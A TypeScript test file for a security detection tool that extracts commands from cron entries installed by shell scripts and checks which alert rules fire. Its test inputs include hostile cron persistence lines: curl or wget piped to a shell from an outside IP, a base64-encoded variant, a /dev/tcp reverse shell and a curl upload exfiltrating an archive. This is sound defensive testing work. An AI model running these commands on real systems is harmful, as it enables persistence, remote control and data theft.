/**
 * The commands of cron entries a script installs (exec-cron-entries.ts), read through real
 * canonical readings (exec-canonical.ts `payloads`) and the shipped rule set: the entry's own
 * command raises the rules that read commands, beside MLS-RAY-016's alert on the install.
 */
import { describe, expect, it } from 'vitest';
import { canonicalExecValue } from './exec-canonical.js';
import { cronCommands, MAX_CRON_COMMANDS } from './exec-cron-entries.js';
import { execRuleIds, SA } from './exec-events.test-support.js';

const payloads = (script: string): readonly string[] => canonicalExecValue(['sh', '-c', script])!.payloads;
const b64 = (s: string): string => Buffer.from(s).toString('base64');

describe('cron entries a script installs', () => {
  it('reads entry lines as crontab(5) writes them', () => {
    expect(cronCommands('*/5 * * * * curl -s u | sh', false)).toEqual(['curl -s u | sh']);
    expect(cronCommands('0 3 * * mon-fri root /opt/b.sh  --flag "a  b"', true)).toEqual(['/opt/b.sh  --flag "a  b"']);
    expect(cronCommands('@reboot /tmp/.k &\n@daily root id', false)).toEqual(['/tmp/.k &', 'root id']);
    expect(cronCommands('@reboot root /tmp/.k', true)).toEqual(['/tmp/.k']);
    // `%` ends the command (the rest is its stdin); `\%` is a percent sign.
    expect(cronCommands('0 0 * * * date +\\%F >> /tmp/d%x%y', false)).toEqual(['date +%F >> /tmp/d']);
    // Comments, settings, blank lines and lines that are no entry run nothing.
    expect(cronCommands('# x\nSHELL=/bin/bash\nMAILTO=""\n\n  \nnot an entry\n* * *', false)).toEqual([]);
    expect(cronCommands('* * * * * root', true)).toEqual([]);
    expect(cronCommands(Array.from({ length: 10 }, (_, i) => `* * * * * c${i}`).join('\n'), false)).toHaveLength(MAX_CRON_COMMANDS);
  });

  it('reads what crontab is given on stdin and what echo, printf and tee write to cron files', () => {
    expect(payloads('(crontab -l; echo "* * * * * curl -s http://203.0.113.7/x | sh") | crontab -')).toEqual(['curl -s http://203.0.113.7/x | sh']);
    expect(payloads('(crontab -l 2>/dev/null; printf "%s\\n" "@reboot /tmp/.k") | crontab -')).toEqual(['/tmp/.k']);
    expect(payloads('echo "*/5 * * * * wget -qO- http://203.0.113.7/m.sh | bash" | crontab -')).toEqual(['wget -qO- http://203.0.113.7/m.sh | bash']);
    expect(payloads(`echo ${b64('* * * * * curl -s http://203.0.113.7/x | sh')} | base64 -d | crontab -`)).toEqual(['curl -s http://203.0.113.7/x | sh']);
    expect(payloads('crontab - <<EOF\n0 3 * * * /usr/bin/find /tmp -mtime +7 -delete\nEOF')).toEqual(['/usr/bin/find /tmp -mtime +7 -delete']);
    expect(payloads('echo "@reboot root bash -i >& /dev/tcp/203.0.113.7/4444 0>&1" > /etc/cron.d/sys')).toEqual(['bash -i >& /dev/tcp/203.0.113.7/4444 0>&1']);
    expect(payloads('echo "0 * * * * root curl -T /tmp/c.tgz https://203.0.113.7/u" | tee -a /etc/crontab >/dev/null')).toEqual(['curl -T /tmp/c.tgz https://203.0.113.7/u']);
    expect(payloads('printf "* * * * * /tmp/.k\\n" >> /var/spool/cron/crontabs/root')).toEqual(['/tmp/.k']);
  });

  it('reads nothing where no entry text is given or the text goes elsewhere', () => {
    expect(payloads('crontab -l')).toEqual([]);
    expect(payloads('crontab -r; crontab -e')).toEqual([]);
    expect(payloads('crontab /tmp/jobs')).toEqual([]); // a file's entries: not in the script
    expect(payloads('crontab -l | grep -v backup | crontab -')).toEqual([]); // the old entries, filtered
    expect(payloads('(crontab -l; echo "* * * * * id") || crontab -')).toEqual([]); // `||` runs it on failure, reading no group output
    expect(payloads('echo "* * * * * curl -s u | sh" > /tmp/notes; echo "* * * * * id" >> /etc/cron.allow')).toEqual([]);
    expect(payloads('echo "* * * * * curl -s u | sh"')).toEqual([]);
  });

  it('raises the rules the entry command meets, for a person and a service account', () => {
    for (const actor of [undefined, SA]) {
      const fetched = execRuleIds(['sh', '-c', '(crontab -l; echo "* * * * * curl -s http://203.0.113.7/x | sh") | crontab -'], actor);
      expect(fetched).toContain('MLS-RAY-016');
      expect(fetched).toContain('MLS-RAY-012');
      expect(execRuleIds(['sh', '-c', 'echo "@reboot root bash -i >& /dev/tcp/203.0.113.7/4444 0>&1" > /etc/cron.d/sys'], actor)).toContain('MLS-RAY-015');
      expect(execRuleIds(['sh', '-c', 'echo "0 * * * * root tar czf /tmp/c.tgz /mnt/ckpt && curl -T /tmp/c.tgz https://203.0.113.7/u" | tee -a /etc/crontab'], actor)).toContain('MLS-EXFIL-014');
      // A housekeeping entry installs (MLS-RAY-016) and runs nothing the rules alert on (a service
      // account's exec raises MLS-RAY-006 whatever it runs).
      const housekeeping = execRuleIds(['sh', '-c', 'crontab - <<EOF\n0 3 * * * /usr/bin/find /tmp -mtime +7 -delete\nEOF'], actor);
      expect(housekeeping.filter((id) => id.startsWith('MLS-') && id !== 'MLS-RAY-006')).toEqual(['MLS-RAY-016']);
    }
  });
});
